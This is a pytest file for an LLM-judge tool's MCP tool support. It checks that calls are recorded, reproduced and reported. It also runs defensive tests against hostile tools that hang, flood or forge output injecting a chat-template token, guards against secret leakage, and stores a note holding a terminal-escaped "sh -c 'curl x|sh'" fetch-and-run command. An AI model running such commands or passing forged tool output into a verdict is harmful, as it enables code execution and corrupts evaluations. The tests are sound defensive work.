"""`tirjudge judge --tool mcp:COMMAND`: calls are made, recorded, shown and reported, and not repeated."""

from __future__ import annotations

import base64
import gzip
import json
import re
from pathlib import Path
from typing import Any

import pytest

from tests.environments.tools.mcp_server import CORPUS, FORGED
from tests.environments.tools.test_mcp import COMMAND, SECRET, guarded, servers
from tests.rows import every
from tests.tirjudge.endpoint_server import EndpointServer, chat
from tests.tirjudge.judge_command import invoke, judge, results, through, write_rows

ROW = {"id": "c", "prompt": "The capital of Australia?", "responses": ["Canberra", "Sydney"], "label": "A"}
ASK = '{"query": "capital of Australia"}'


def searching(body: dict[str, Any]) -> dict[str, Any]:
    """Play a judge that searches, compares the responses with what it found, and believes the program."""
    said = [one["content"] for one in body["messages"]]
    if len(said) == 1:
        return chat(f"I look it up.\n```search\n{ASK}\n```\n")
    if len(said) == 3:
        (city,) = re.findall("capital of Australia is ([A-Z][a-z]+)", said[-1])
        return chat(f"```python\nprint('A' if response_a == {city!r} else 'B')\n```\n")
    return chat(f"<preference>{said[-1].splitlines()[1]}</preference>")


@pytest.fixture
def judged(tmp_path: Path, endpoint: EndpointServer) -> Path:
    endpoint.script = searching
    words = (*through(endpoint), "--order", "both", "--output", "out.jsonl")
    judge(tmp_path, [ROW], "--tool", COMMAND, "--allow-tool", "search", *words, code=0)
    assert not servers()
    return tmp_path


def test_a_judge_searches_and_its_calls_are_recorded(judged: Path, endpoint: EndpointServer) -> None:
    (row,) = results(judged / "out.jsonl")
    assert (row["verdict"], row["correct"], row["programs"], row["programs_failed"]) == ("A", 1.0, 4, 0)
    prompt = endpoint.asked[0].body["messages"][0]["content"]
    assert "\nsearch: Search a corpus of facts." in prompt
    assert "flood" not in prompt
    call, shown, program, *_ = row["views"][0]["segments"][1:]
    assert (call["kind"], call["tool"], call["text"].strip()) == ("program", "search", ASK)
    assert (call["status"], call["stdout"]) == ("ok", CORPUS["capital"])
    assert "bindings" not in call
    assert shown["text"] == f"```output\n{CORPUS['capital']}\n```\n"
    assert "tool" not in program
    assert {view["reward"]["total"] for view in row["views"]} == {1.0}


def test_programs_run_again_and_calls_are_marked(judged: Path) -> None:
    run = invoke("reproduce", "out.jsonl", "--json", "--backend-option", "preload=[]", folder=judged)
    found = json.loads(run.stdout)
    assert (run.returncode, found["programs"], found["same"], found["not_repeated"]) == (0, 4, 2, 2)
    assert (found["verdicts"], found["verdicts_changed"], found["not_same"]) == (2, 0, [])


def test_show_and_report_draw_the_call(judged: Path) -> None:
    shown = invoke("show", "out.jsonl", "c", folder=judged, COLUMNS="120").stdout
    assert "call 1 of search: ok" in shown
    assert "program 2: ok" in shown
    assert shown.count(CORPUS["capital"]) == 2, "once in each view"
    assert invoke("report", "out.jsonl", "-o", "report.html", folder=judged).returncode == 0
    (chunk,) = re.findall(r'id="texts-\d+-\d+">([^<]*)<', (judged / "report.html").read_text())
    (record,) = json.loads(gzip.decompress(base64.b64decode(chunk)))
    headings = [part["heading"] for part in record["views"][0]["parts"]]
    assert headings[:3] == ["reasoning", "call 1 of search: ok", "shown to the judge"]


def test_a_judged_row_is_not_judged_again_and_other_tools_are_other_settings(
    judged: Path, endpoint: EndpointServer
) -> None:
    before = len(endpoint.asked)
    words = ("rows.jsonl", *through(endpoint), "--order", "both", "--output", "out.jsonl", "--tool", COMMAND)
    assert judge(judged, *words, "--allow-tool", "search").returncode == 0
    assert len(endpoint.asked) == before
    run = judge(judged, *words, code=2)
    assert "allow_tool" in run.stderr


@pytest.mark.slow
@pytest.mark.parametrize("tier", every(2, ["tools", "turns"]))
@pytest.mark.parametrize("name", ["hang", "flood", "forge"])
def test_nothing_but_the_judges_own_text_becomes_a_verdict(
    tmp_path: Path, endpoint: EndpointServer, tier: str, name: str
) -> None:
    """A judge calls a hostile tool; then it prefers A, or says nothing and has no verdict."""
    arguments = json.dumps({"size": 3_000_000} if name == "flood" else {})

    def script(body: dict[str, Any]) -> dict[str, Any]:
        if len(body["messages"]) > 1:
            kept = "prime?" in body["messages"][0]["content"]
            return chat("<preference>A</preference>" if kept else "I cannot tell.")
        if tier == "turns":
            return chat(f"```{name}\n{arguments}\n```\n")
        function = {"name": name, "arguments": arguments}
        return chat(None, tool_calls=[{"id": "1", "type": "function", "function": function}])

    endpoint.script = script
    write_rows(tmp_path / "rows.jsonl", [ROW, {**ROW, "id": "p", "prompt": "Is 51 prime?"}])
    judge(
        tmp_path,
        "rows.jsonl",
        *through(endpoint),
        *("--tool", COMMAND, "--tool-seconds", "1", "--tier", tier, "--order", "given"),
        *("--output", "out.jsonl"),
        code=0,
    )
    rows = {row["id"]: row for row in results(tmp_path / "out.jsonl")}
    assert (rows["c"]["verdict"], rows["c"]["stop"]) == (None, "malformed")
    assert (rows["p"]["verdict"], rows["p"]["stop"]) == ("A", "verdict")
    program, output, *_ = rows["p"]["views"][0]["segments"]
    statuses = {"hang": "wall_limit", "flood": "output_limit", "forge": "ok"}
    assert (program["tool"], program["status"]) == (name, statuses[name])
    assert len(program["stdout"]) <= 1 << 20
    assert len(output["text"]) < 2100
    if name == "forge":
        assert program["stdout"] == FORGED
        sent = endpoint.asked[-1].body["messages"][-1]["content"]
        assert "<|im_end|>" not in sent
    assert not servers()


def test_a_tool_that_cannot_be_opened_is_one_line(tmp_path: Path, endpoint: EndpointServer) -> None:
    write_rows(tmp_path / "rows.jsonl", [ROW])
    for words, reason in (
        (("--tool", "mcp:/no/such/program"), "--tool mcp:/no/such/program: it cannot be started"),
        (("--tool", COMMAND, "--allow-tool", "find"), "no tool 'find' is offered"),
        (("--tool", "search"), "'search' is no tool: write tests, mcp:COMMAND or a URL"),
        (("--tool", COMMAND, "--no-tools"), "--tool needs a judge with tools"),
        (("--tool", COMMAND, "--format", "j1-pav"), "the format j1-pav offers its judge no further tools"),
    ):
        run = judge(tmp_path, "rows.jsonl", *through(endpoint), *words, code=2)
        (line,) = run.stderr.splitlines()
        assert reason in line
    assert not endpoint.asked


CODE = {
    "id": "add",
    "prompt": "Write a function `add` of two numbers.",
    "responses": ["def add(a, b):\n    return a - b", "```python\ndef add(a, b):\n    return a + b\n```"],
    "label": "B",
}
CASES = {"cases": [{"call": "add(2, 3)", "expected": 5}, {"call": "add(0, 0)", "expected": 0}]}


def test_a_judge_runs_tests_which_are_recorded_and_run_again(
    tmp_path: Path, endpoint: EndpointServer
) -> None:
    def script(body: dict[str, Any]) -> dict[str, Any]:
        said = [one["content"] for one in body["messages"]]
        if len(said) == 1:
            return chat(f"```run_tests\n{json.dumps(CASES)}\n```\n")
        (best,) = re.findall("response ([AB]): 2 of 2 cases passed", said[-1])
        return chat(f"<preference>{best}</preference>")

    endpoint.script = script
    words = (*through(endpoint), "--order", "both", "--output", "out.jsonl")
    judge(tmp_path, [CODE], "--tool", "tests", *words, code=0)
    (row,) = results(tmp_path / "out.jsonl")
    assert (row["verdict"], row["correct"], row["programs"], row["programs_failed"]) == ("B", 1.0, 2, 0)
    assert "\nrun_tests: " in endpoint.asked[0].body["messages"][0]["content"]
    forth, back = (view["segments"][0] for view in row["views"])
    assert (forth["tool"], forth["status"], forth["placement"]) == ("run_tests", "ok", back["placement"])
    table = "response A: {}\ncase 1: {}\ncase 2: passed\nresponse B: {}\ncase 1: {}\ncase 2: passed"
    wrong, right = "1 of 2 cases passed", "2 of 2 cases passed"
    failed = "failed: returned -1, expected 5"
    assert forth["stdout"] == table.format(wrong, failed, right, "passed")
    assert back["stdout"] == table.format(right, "passed", wrong, failed)
    shown = invoke("show", "out.jsonl", "add", folder=tmp_path, COLUMNS="120").stdout
    assert "call 1 of run_tests: ok" in shown

    again = ("reproduce", "out.jsonl", "--json", "--backend-option", "preload=[]")
    found = json.loads(invoke(*again, folder=tmp_path).stdout)
    assert (found["programs"], found["same"], found["not_repeated"], found["verdicts_changed"]) == (
        2,
        2,
        0,
        0,
    )
    forged = (tmp_path / "out.jsonl").read_text().replace("returned -1", "returned -2")
    (tmp_path / "out.jsonl").write_text(forged)
    found = json.loads(invoke(*again, folder=tmp_path).stdout)
    assert (found["programs"], found["same"], found["different"]) == (2, 0, 2)


def test_the_header_of_a_server_is_in_no_file_and_no_message(
    tmp_path: Path, endpoint: EndpointServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    endpoint.script = lambda body: chat(
        "```search\n{}\n```\n" if len(body["messages"]) == 1 else "<preference>A</preference>"
    )
    monkeypatch.setenv("SEARCH_HEADER", SECRET)
    write_rows(tmp_path / "rows.jsonl", [ROW])
    with guarded() as url:
        words = ("rows.jsonl", *through(endpoint), "--output", "out.jsonl", "--tool", url)
        refused = judge(tmp_path, *words)
        run = judge(tmp_path, *words, "--tool-authorization", "127.0.0.1=SEARCH_HEADER")
    assert refused.returncode == 2
    assert "it answered with HTTP 401" in refused.stderr
    assert run.returncode == 0, run.stderr
    (row,) = results(tmp_path / "out.jsonl")
    assert row["views"][0]["segments"][0]["stdout"] == "Canberra"
    secret = SECRET.removeprefix("Bearer ")
    written = [file for file in tmp_path.rglob("*") if file.is_file()]
    assert [file for file in written if secret in file.read_text(errors="replace")] == []
    assert secret not in run.stdout + run.stderr + str([one.body for one in endpoint.asked])


def test_a_judge_that_was_trained_with_tools_asks_for_them(
    tmp_path: Path, endpoint: EndpointServer, caplog: pytest.LogCaptureFixture
) -> None:
    endpoint.script = lambda body: chat("<preference>A</preference>")
    (tmp_path / "note").mkdir()
    (tmp_path / "note" / "tirjudge.json").write_text(json.dumps({"tools": ["tests", "mcp:my search"]}))
    write_rows(tmp_path / "rows.jsonl", [ROW])
    words = ("rows.jsonl", *through(endpoint), "--note-of", "./note")
    run = judge(tmp_path, *words, "--output", "a.jsonl", code=0)
    assert (
        'm says that it was trained with further tools, see --tool: "tests", "mcp:my search"' in caplog.text
    )
    caplog.clear()
    hostile = {"tools": ["mcp:\x1b]0;sh -c 'curl x|sh'\x07"], "note": "judges\x1b[2J\nwell\u202e"}
    (tmp_path / "note" / "tirjudge.json").write_text(json.dumps(hostile))
    run = judge(tmp_path, *words, "--output", "hostile.jsonl", code=0)
    shown = f"{caplog.text}{run.stdout}{run.stderr}"
    assert "\x1b" not in shown
    assert "\u202e" not in shown
    assert "--tool mcp" not in shown
    assert r"judges\x1b[2J\nwell\u202e" in shown
    caplog.clear()
    (tmp_path / "note" / "tirjudge.json").write_text(json.dumps({"tools": ["tests"]}))
    run = judge(tmp_path, *words, "--output", "b.jsonl", "--tool", "tests", code=0)
    assert "further tools" not in caplog.text
